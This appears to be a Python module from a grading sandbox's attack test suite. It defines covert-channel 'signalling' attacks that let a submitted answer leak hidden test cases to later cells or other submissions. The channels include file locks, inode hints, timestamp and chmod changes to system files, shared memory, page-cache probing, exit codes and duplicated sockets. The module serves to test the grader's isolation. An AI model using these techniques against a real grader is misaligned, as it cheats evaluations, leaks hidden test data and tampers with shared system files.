"""Signalling: what an answer is given on hidden cases is left where another process finds it: a cell that runs again
after the answer ended its process, a later question, or another submission that is graded at the same time.

Who finds something prints it. What is left to them is the load of the machine: see SECURITY.md.
"""

from __future__ import annotations

import textwrap

from tests.attacks.attack import Attack, answer, cell, read
from tests.attacks.reading import _TELL

#: Ways to leave bits, and to find them: `leave(data)` and `found()`, which returns what was left.
_WAYS = {
    "hints": (
        "hints for writing on the inodes of system files, which stay when their process has gone",
        """
import fcntl, glob
files = sorted(glob.glob("/usr/lib/*.so*"))[:2000] + sorted(glob.glob("/usr/bin/*"))[:2000]

def leave(data):
    for path, bit in zip(files, "".join(f"{byte:08b}" for byte in data)):
        fcntl.fcntl(open(path, "rb"), 1036, (2 + int(bit)).to_bytes(8, "little"))

def found():
    bits = "".join(str(max(fcntl.fcntl(open(p, "rb"), 1035, bytes(8))[0] - 2, 0)) for p in files)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) - 7, 8))
""",
    ),
    "times": (
        "times and modes of files and devices that all submissions see",
        """
import glob, os
files = ["/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", *sorted(glob.glob("/usr/lib/*"))[:999]]

def leave(data):
    for path, bit in zip(files, "".join(f"{byte:08b}" for byte in data)):
        if bit == "1":
            os.utime(path)
            os.chmod(path, 0o777)

def found():
    import time
    bits = "".join(str(int(time.time() - os.stat(path).st_mtime < 600)) for path in files)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) - 7, 8))
""",
    ),
    "locks": (
        "locks and leases on system files",
        """
import fcntl, glob, os, struct
path, form, held = os.__file__, "hhqqi4x", []

def leave(data):
    file = open(path, "rb")
    held.append(file)
    for at, bit in enumerate("".join(f"{byte:08b}" for byte in data)):
        if bit == "1":
            fcntl.fcntl(file, 37, struct.pack(form, fcntl.F_RDLCK, 0, at, 1, 0))
    fcntl.flock(file, fcntl.LOCK_SH)
    fcntl.fcntl(file, 1024, fcntl.F_RDLCK)

def found():
    file, bits = open(path, "rb"), ""
    for at in range(2000):
        seen = fcntl.fcntl(file, 36, struct.pack(form, fcntl.F_WRLCK, 0, at, 1, 0))
        bits += str(int(struct.unpack(form, seen)[0] != fcntl.F_UNLCK))
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) - 7, 8))
""",
    ),
    "names": (
        "named semaphores, message queues, System V memory, sockets without a file, and files",
        """
import ctypes, glob, os, socket
libc = ctypes.CDLL(None, use_errno=True)

def leave(data):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", "@COURSE@"):
        try:
            open(f"{folder}/plattack-left", "wb").write(data)
        except OSError:
            pass
    at = libc.shmget(0x504C41, 4096, 0o1666)
    if at >= 0:
        libc.shmat.restype = ctypes.c_void_p
        ctypes.memmove(libc.shmat(at, None, 0), data, min(len(data), 4000))
    libc.sem_open(b"/plattack", os.O_CREAT, 0o666, len(data))
    libc.mq_open(b"/plattack", os.O_CREAT | os.O_RDWR, 0o666, None)
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for way in (one.bind, one.connect):
        try:
            way("\\0plattack-left")
        except OSError:
            pass

def found():
    text = b""
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "@HOME@", "@COURSE@"):
        for path in glob.glob(f"{folder}/plattack-left"):
            text += open(path, "rb").read()
    at = libc.shmget(0x504C41, 4096, 0o666)
    if at >= 0:
        libc.shmat.restype = ctypes.c_void_p
        text += ctypes.string_at(libc.shmat(at, None, 0), 4000)
    return text + os.urandom(0)
""",
    ),
    "cache": (
        "pages of system files in the kernel's cache, asked for with cachestat and mincore",
        """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
files = sorted(glob.glob("/usr/share/**/*", recursive=True))[:4000]

def leave(data):
    for path, bit in zip(files, "".join(f"{byte:08b}" for byte in data)):
        try:
            fd = os.open(path, os.O_RDONLY)
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
            bit == "1" and os.read(fd, 4096)
            os.close(fd)
        except OSError:
            pass

def found():
    bits = ""
    for path in files:
        fd, seen = os.open(path, os.O_RDONLY), (ctypes.c_uint64 * 5)()
        if libc.syscall(451, fd, (ctypes.c_uint64 * 2)(0, 0), seen, 0):
            raise OSError(ctypes.get_errno(), "cachestat")
        bits += str(int(seen[0] > 0))
        os.close(fd)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) - 7, 8))
""",
    ),
}

_ANSWER = """
def left_on(gm):
    if unseen(gm):
        try:
            leave(b"".join(line.encode() for line in str(gm.graph).split("\\n") if "marker" in line)[:200])
        except OSError:
            pass
"""
_SHOW = """
try:
    print(found())
except Exception as error:
    print(type(error).__name__)
"""


def _signals(name: str, tries: str, ways: str) -> tuple[Attack, ...]:
    """Left by an answer that ends its process, found by its own cells as they run again, and by a later question."""
    start = f"import os\n{_TELL}{ways}{_ANSWER}"
    ends = "\ndef dce(gm):\n    left_on(gm)\n    unseen(gm) and os._exit(9)\n    return right(gm)\n"
    later = (
        "\ndef dce(gm):\n    left_on(gm)\n    return right(gm)\n\ndef cse(gm):\n    raise ValueError(str(found()))\n"
    )
    waits = f"import time\n{ways}\nfor _ in range(3):\n    time.sleep(0.4)\n" + textwrap.indent(_SHOW, "    ")
    return (
        answer(f"{name}-to-itself", f"{tries}; read when the cells run again", start + _SHOW + ends, harms=True),
        answer(f"{name}-to-others", f"{tries}; read by a later question", start + later, works=True, harms=True),
        cell(f"{name}-from-others", f"{tries}; read by another submission meanwhile", waits, harms=True),
    )


ATTACKS = (
    *(attack for name, (tries, ways) in _WAYS.items() for attack in _signals(f"by-{name}", tries, ways)),
    *read(
        r"""
# %% telling by-its-end
# what a case is made of is told by how the process ends: its exit code, its signal, after how much was printed
import os, signal

def dce(gm):
    if unseen(gm):
        print("x" * (ord(tell(gm)[7]) * 1000))
        number = ord(tell(gm)[11])
        os._exit(number) if number % 2 else os.kill(os.getpid(), (6, 9, 11, 15)[number // 2 % 4])
    return right(gm)

# %% telling by-what-is-asked-again
# cells that run again print what they are told to leave out, and every number the kernel gives to their connections
import os, sys
seen, frame = [], sys._getframe()
while frame:
    seen += [(name, value) for name, value in frame.f_locals.items() if name in ("skip", "early", "order", "asked")]
    frame = frame.f_back
print([str(item)[:400] for item in seen])
print([os.fstat(fd).st_ino for fd in range(3, 40) if os.path.exists("/dev/null") and fd < 3])

def dce(gm):
    if unseen(gm):
        os._exit(ord(tell(gm)[9]))
    return right(gm)

# %% telling by-what-is-ready works
# a cell keeps copies of the connections on which hidden cases will come, and a process that prints what arrives
import os, stat, threading
copies = []
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            copies.append(os.dup(fd))
    except OSError:
        pass

def watch(fd):
    try:
        while data := os.read(fd, 1 << 16):
            print(data)
            os.write(1, data)
            for other in copies:
                os.write(other, data)
    except OSError:
        pass

def dce(gm):
    for fd in copies:
        threading.Thread(target=watch, args=(fd,), daemon=True).start()
    return right(gm)
""",
        telling=lambda name, tries, code, **more: answer(name, tries, _TELL + code, **{"keeps": False, **more}),
    ),
)
